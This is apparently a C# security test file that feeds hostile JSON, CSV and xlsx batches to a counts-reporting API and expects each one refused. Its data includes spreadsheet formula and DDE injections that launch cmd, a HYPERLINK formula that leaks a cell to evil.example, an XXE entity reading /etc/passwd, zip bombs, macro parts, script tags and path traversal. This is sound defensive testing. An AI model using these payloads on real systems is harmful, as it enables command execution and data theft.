using Frontline.Tests.Infrastructure;

namespace Frontline.Tests.Hostile;

public static partial class HostileRows
{
    private const string Batch = "/api/units/unit-a/counts/{today}";
    private const string CsvHeader = "siteId,onDuty,partyMembers,tested,peopleChecked,vehiclesChecked,suppliesDelivered,householdsVisited,highlight";

    private static Hostile BatchCsv(string name, string csv, int status, string? field = null, string path = Batch) =>
        new Hostile($"POST batch CSV: {name}", "POST", path, status, field).As("reporterA").Csv(csv);

    private static Hostile BatchJson(string name, string json, int status, string? field = null, string path = Batch) =>
        new Hostile($"POST batch JSON: {name}", "POST", path, status, field).As("reporterA").Json(json);

    /// <summary>One CSV row for site-1 with one cell replaced.</summary>
    internal static string CsvRow(string column, string cell)
    {
        var cells = new Dictionary<string, string>
        {
            ["siteId"] = "site-1", ["onDuty"] = "3", ["partyMembers"] = "1", ["tested"] = "120", ["peopleChecked"] = "40",
            ["vehiclesChecked"] = "15", ["suppliesDelivered"] = "8", ["householdsVisited"] = "20", ["highlight"] = "",
        };
        cells[column] = cell;
        return CsvHeader + "\n" + string.Join(",", CsvHeader.Split(',').Select(name => cells[name])) + "\n";
    }

    private static string JsonRows(params string[] rows) => "{\"rows\":[" + string.Join(",", rows) + "]}";

    private static string JsonRow(string key, string? raw) => Obj(With([("siteId", "\"site-1\""), .. Counts], key, raw));

    /// <summary>Formula injection, as spreadsheets see it: (label, cell as written in the CSV).</summary>
    private static readonly (string Label, string Cell)[] Formulas =
    [
        ("=cmd calc", "\"=cmd|' /C calc'!A0\""),
        ("=HYPERLINK", "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""),
        ("+ formula", "+1+cmd|' /C calc'!A0"),
        ("- formula", "-2+3+cmd|' /C calc'!A0"),
        ("@SUM", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("space then =", "\" =1+1\""),
        ("tab then =", "\"\t=1+1\""),
        ("DDE", "\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"!A0\"\")\""),
    ];

    private static Hostile BatchXlsx(string name, byte[] xlsx, int status, string? field = null) =>
        new Hostile($"POST batch xlsx: {name}", "POST", Batch, status, field).As("reporterA").Raw(xlsx, Workbooks.MediaType);

    /// <summary>The header and one good row for site-1, with one cell replaced.</summary>
    internal static string[][] SheetRows(string column, string cell)
    {
        var header = CsvHeader.Split(',');
        var row = CsvRow(column, cell).Split('\n')[1].Split(',');
        return [header, row];
    }

    /// <summary>Hostile workbooks: each refused whole, naming the file, the sheet, the rows or the cell.</summary>
    internal static IEnumerable<(string Label, byte[] Xlsx, string Field)> HostileWorkbooks(string[] header, string[] row)
    {
        var rows = SheetData([header, row]);
        yield return ("not a zip", Utf8(string.Join(",", header) + "\n" + string.Join(",", row) + "\n"), "file");
        yield return ("a damaged zip", [.. Workbooks.Of([header, row]).Take(200)], "file");
        yield return ("zip bomb of 20 MB", Workbooks.Bomb(20), "file");
        yield return ("zip bomb compressed 1000 to 1", Workbooks.Bomb(8), "file");
        yield return ("xl/vbaProject.bin", Workbooks.Build(rows, extraParts: [("xl/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0])]), "file");
        yield return ("macro-enabled content type", Workbooks.Build(rows, contentType: "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "file");
        yield return ("100,000 rows", Workbooks.ManyRows(100_000), "rows");
        yield return ("merged cells", Workbooks.Build(rows, "<mergeCells count=\"1\"><mergeCell ref=\"A2:B2\"/></mergeCells>"), "sheet");
        yield return ("the sheet missing", Workbooks.Build(rows, withSheetPart: false), "sheet");
        yield return ("no sheet at all", Workbooks.Build(rows, sheets: ""), "sheet");
        yield return ("a DTD", Workbooks.Build(rows, prolog: "<!DOCTYPE worksheet [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"), "file");
        yield return ("a cell beyond column 64", Workbooks.Build("<sheetData><row r=\"1\"><c r=\"ZZ1\"><v>1</v></c></row></sheetData>"), "sheet");
        yield return ("a formula without a value", Workbooks.Build(ReplaceA2(rows, "<c r=\"A2\"><f>1+0</f></c>")), "A2");
        yield return ("an error value", Workbooks.Build(ReplaceA2(rows, "<c r=\"A2\" t=\"e\"><v>#DIV/0!</v></c>")), "A2");
        yield return ("a shared string that is not there", Workbooks.Build(ReplaceA2(rows, "<c r=\"A2\" t=\"s\"><v>7</v></c>")), "A2");
        yield return ("a row numbered 0", Workbooks.Build(rows.Replace("<row r=\"2\">", "<row r=\"0\">", StringComparison.Ordinal)), "sheet");
        yield return ("a cell named 1A", Workbooks.Build(ReplaceA2(rows, "<c r=\"1A\"><v>1</v></c>")), "sheet");
        yield return ("header only", Workbooks.Of([header]), "rows");
        yield return ("empty sheet", Workbooks.Build("<sheetData/>"), "rows");
    }

    private static string SheetData(string[][] rows) => Workbooks.SheetData(rows);

    /// <summary>The sheet data with its cell A2 (the first cell of the first row under the header) replaced.</summary>
    private static string ReplaceA2(string sheetData, string cell) =>
        System.Text.RegularExpressions.Regex.Replace(sheetData, "<c r=\"A2\".*?</c>", cell);

    private static Hostile[] BatchSheets =>
    [
        .. HostileWorkbooks(CsvHeader.Split(','), SheetRows("tested", "120")[1]).Select(bad => BatchXlsx(bad.Label, bad.Xlsx, 400, bad.Field)),
        BatchXlsx("over 2 MiB", [.. Workbooks.Of(SheetRows("tested", "1")), .. new byte[2 * 1024 * 1024]], 413, "bytes"),
        BatchXlsx("a text cell that looks like a formula", Workbooks.Of(SheetRows("highlight", "=cmd|' /C calc'!A0")), 400, "highlight"),
        BatchXlsx("figure as a fraction", Workbooks.Of(SheetRows("tested", "120.5")), 400, "tested"),
        BatchXlsx("another unit's site", Workbooks.Of(SheetRows("siteId", "site-3")), 403),
        BatchXlsx("onDuty twice, by name and in Chinese", Workbooks.Of([[.. CsvHeader.Split(','), "在岗人数"], [.. SheetRows("tested", "1")[1], "3"]]), 400, "onDuty"),
        BatchXlsx("sent as application/vnd.ms-excel", Workbooks.Of(SheetRows("tested", "1")), 415, "Content-Type").Typed("application/vnd.ms-excel"),
    ];

    public static Hostile[] UnitCounts =>
    [
        // GET a unit's day.
        Get("unit day: no day", "/api/units/unit-a/counts", 400, "day"),
        .. BadDays.Select(bad => Get($"unit day: day {bad.Label}", $"/api/units/unit-a/counts?day={bad.Day}", 400, "day")),
        Get("unit day: day twice", "/api/units/unit-a/counts?day={today}&day={today}", 400, "day"),
        Get("unit day: another unit", "/api/units/unit-b/counts?day={today}", 403),
        Get("unit day: unknown unit", "/api/units/no-such-unit/counts?day={today}", 404, caller: "coordinator"),
        Get("unit day: unit dot-dot-slash", "/api/units/..%2Funit-a/counts?day={today}", 404, caller: "coordinator"),
        Get("unit day: unit with a percent sign", "/api/units/unit-a%25/counts?day={today}", 404, caller: "coordinator"),
        Get("unit day: unit of 2000 characters", "/api/units/" + new string('u', 2000) + "/counts?day={today}", 404, caller: "coordinator"),

        // Completeness and flagged counts: the day.
        Get("completeness: no day", "/api/completeness", 400, "day", "coordinator"),
        .. BadDays.Take(7).Select(bad => Get($"completeness: day {bad.Label}", $"/api/completeness?day={bad.Day}", 400, "day", "coordinator")),
        Get("completeness: area with a slash", "/api/completeness?day={today}&area=510100%2F1", 400, "area", "coordinator"),
        Get("completeness: area with a formula", "/api/completeness?day={today}&area=%3D1%2B1", 400, "area", "coordinator"),
        Get("completeness: unknown area", "/api/completeness?day={today}&area=999999", 404, caller: "coordinator"),
        Get("flagged: no day", "/api/counts/flagged", 400, "day", "coordinator"),
        .. BadDays.Skip(6).Select(bad => Get($"flagged: day {bad.Label}", $"/api/counts/flagged?day={bad.Day}", 400, "day", "coordinator")),

        // Batches as JSON.
        BatchJson("no rows", JsonRows(), 400, "rows"),
        BatchJson("rows null", "{\"rows\":null}", 400, "rows"),
        BatchJson("rows a string", "{\"rows\":\"site-1,3\"}", 400, "rows"),
        BatchJson("a null row", JsonRows("null"), 404),
        BatchJson("501 rows", JsonRows([.. Enumerable.Repeat(JsonRow("siteId", "\"site-3\""), 501)]), 400, "rows"),
        BatchJson("only another unit's site", JsonRows(JsonRow("siteId", "\"site-3\"")), 403),
        BatchJson("only unknown sites", JsonRows(JsonRow("siteId", "\"no-such-site\""), JsonRow("siteId", "\"..%2Fsite-1\"")), 404),
        BatchJson("refused for different reasons", JsonRows(JsonRow("siteId", "\"site-3\""), JsonRow("tested", "-1")), 400, "tested"),
        BatchJson("figure as a string", JsonRows(JsonRow("tested", "\"120\"")), 400, "rows"),
        BatchJson("figure as a fraction", JsonRows(JsonRow("tested", "120.5")), 400, "rows"),
        BatchJson("figure as an exponent", JsonRows(JsonRow("tested", "1.2e2")), 400, "rows"),
        BatchJson("figure past long", JsonRows(JsonRow("tested", "99999999999999999999")), 400, "rows"),
        BatchJson("negative figure", JsonRows(JsonRow("onDuty", "-3")), 400, "onDuty"),
        BatchJson("duplicate key in a row", JsonRows(JsonRow("tested", "1").TrimEnd('}') + ",\"tested\":2}"), 400, "rows"),
        BatchJson("script in a highlight", JsonRows(JsonRow("highlight", "\"<script>alert(1)</script>\"")), 400, "highlight"),
        BatchJson("right-to-left override in a highlight", JsonRows(JsonRow("highlight", "\"\\u202Egnp.exe\"")), 400, "highlight"),
        BatchJson("a bad day", JsonRows(JsonRow("tested", "1")), 400, "day", "/api/units/unit-a/counts/2022-02-30"),
        BatchJson("a future day", JsonRows(JsonRow("tested", "1")), 400, "day", "/api/units/unit-a/counts/{tomorrow}"),
        BatchJson("another unit", JsonRows(JsonRow("tested", "1")), 403, path: "/api/units/unit-b/counts/{today}"),
        BatchJson("unit dot-dot-slash", JsonRows(JsonRow("tested", "1")), 403, path: "/api/units/..%2Funit-a/counts/{today}"),
        BatchJson("coordinator, unit dot-dot-slash", JsonRows(JsonRow("tested", "1")), 404, path: "/api/units/..%2Funit-a/counts/{today}") with { Caller = "coordinator" },
        BatchJson("coordinator, unit with a backslash", JsonRows(JsonRow("tested", "1")), 404, path: "/api/units/unit-a%5C/counts/{today}") with { Caller = "coordinator" },
        BatchJson("as application/jsonp", JsonRows(JsonRow("tested", "1")), 415, "Content-Type").Typed("application/jsonp"),
        BatchJson("over 256 KiB", JsonRows([.. Enumerable.Repeat(JsonRow("highlight", Str(new string('a', 400))), 700)]), 413, "bytes"),

        // Batches as CSV: formulas in any cell, strict numbers, strict UTF-8, well-formed CSV.
        .. Formulas.Select(formula => BatchCsv($"highlight {formula.Label}", CsvRow("highlight", formula.Cell), 400, "highlight")),
        .. Formulas.Take(4).Select(formula => BatchCsv($"siteId {formula.Label}", CsvRow("siteId", formula.Cell), 400, "siteId")),
        BatchCsv("figure with a plus sign", CsvRow("tested", "+120"), 400, "tested"),
        BatchCsv("figure negative", CsvRow("tested", "-120"), 400, "tested"),
        BatchCsv("figure as an exponent", CsvRow("tested", "1.2e2"), 400, "tested"),
        BatchCsv("figure as a fraction", CsvRow("tested", "120.0"), 400, "tested"),
        BatchCsv("figure hexadecimal", CsvRow("tested", "0x78"), 400, "tested"),
        BatchCsv("figure in full-width digits", CsvRow("tested", "１２０"), 400, "tested"),
        BatchCsv("figure with a thousands separator", CsvRow("tested", "\"1,200\""), 400, "tested"),
        BatchCsv("figure of 30 digits", CsvRow("tested", new string('9', 30)), 400, "tested"),
        BatchCsv("figure missing", CsvRow("tested", ""), 400, "tested"),
        BatchCsv("highlight with NUL", CsvRow("highlight", "好\0事"), 400, "highlight"),
        BatchCsv("highlight with a right-to-left override", CsvRow("highlight", "好\u202E事"), 400, "highlight"),
        BatchCsv("highlight with a script tag", CsvRow("highlight", "<script>alert(1)</script>"), 400, "highlight"),
        BatchCsv("another unit's site", CsvRow("siteId", "site-3"), 403),
        BatchCsv("site with a slash", CsvRow("siteId", "site-1/../site-3"), 404),
        BatchCsv("header only", CsvHeader + "\n", 400, "rows"),
        BatchCsv("empty", "", 400, "rows"),
        BatchCsv("blank lines only", "\n\n\r\n", 400, "rows"),
        BatchCsv("501 rows", CsvHeader + "\n" + string.Concat(Enumerable.Repeat("site-3,1,1,1,1,1,1,1,\n", 501)), 400, "rows"),
        BatchCsv("an unclosed quote", CsvHeader + "\nsite-1,3,1,120,40,15,8,20,\"never closed\n", 400),
        BatchCsv("a column twice", "siteId,onDuty,onDuty,partyMembers,tested,peopleChecked,vehiclesChecked,suppliesDelivered,householdsVisited\nsite-1,3,9,1,120,40,15,8,20\n", 400),
        BatchCsv("semicolons", CsvHeader.Replace(',', ';') + "\nsite-1;3;1;120;40;15;8;20;\n", 404),
        BatchCsv("invalid UTF-8", "", 400, "charset").Raw(Concat(Utf8(CsvHeader + "\nsite-1,3,1,120,40,15,8,20,"), [0xC3, 0x28], Utf8("\n")), "text/csv"),
        BatchCsv("GBK declared as UTF-8", "", 400, "charset").Raw(Concat(Utf8(CsvHeader + "\nsite-1,3,1,120,40,15,8,20,"), [0xBA, 0xC3, 0xCA, 0xC2], Utf8("\n")), "text/csv; charset=utf-8"),
        BatchCsv("GBK after a UTF-8 BOM", "", 400, "charset").Raw(Concat([0xEF, 0xBB, 0xBF], Utf8(CsvHeader + "\nsite-1,3,1,120,40,15,8,20,"), [0xBA, 0xC3, 0xCA, 0xC2], Utf8("\n")), "text/csv"),
        BatchCsv("UTF-8 declared as GBK", CsvRow("highlight", "好人好事"), 400, "charset").Typed("text/csv; charset=gbk"),
        BatchCsv("UTF-8 with a BOM declared as GB18030", "", 400, "charset").Raw(Concat([0xEF, 0xBB, 0xBF], Utf8(CsvRow("tested", "1"))), "text/csv; charset=gb18030"),
        BatchCsv("neither UTF-8 nor GBK", "", 400, "charset").Raw(Concat(Utf8(CsvHeader + "\nsite-1,3,1,120,40,15,8,20,"), [0x81, 0x20, 0xFF], Utf8("\n")), "text/csv"),
        BatchCsv("declared GBK but not GBK", "", 400, "charset").Raw(Concat(Utf8(CsvHeader + "\nsite-1,3,1,120,40,15,8,20,"), [0xFF, 0xFF], Utf8("\n")), "text/csv; charset=gbk"),
        BatchCsv("UTF-16 with a BOM", "", 400, "charset").Raw(Concat([0xFF, 0xFE], System.Text.Encoding.Unicode.GetBytes(CsvRow("tested", "1"))), "text/csv"),
        BatchCsv("declared Big5", CsvRow("tested", "1"), 415, "Content-Type").Typed("text/csv; charset=big5"),
        BatchCsv("declared UTF-16", CsvRow("tested", "1"), 415, "Content-Type").Typed("text/csv; charset=utf-16"),
        BatchCsv("text/csvx", CsvRow("tested", "1"), 415, "Content-Type").Typed("text/csvx"),
        .. BatchSheets,
        BatchCsv("over 256 KiB", CsvHeader + "\n" + string.Concat(Enumerable.Repeat("site-3,1,1,1,1,1,1,1," + new string('a', 400) + "\n", 700)), 413, "bytes"),
    ];
}
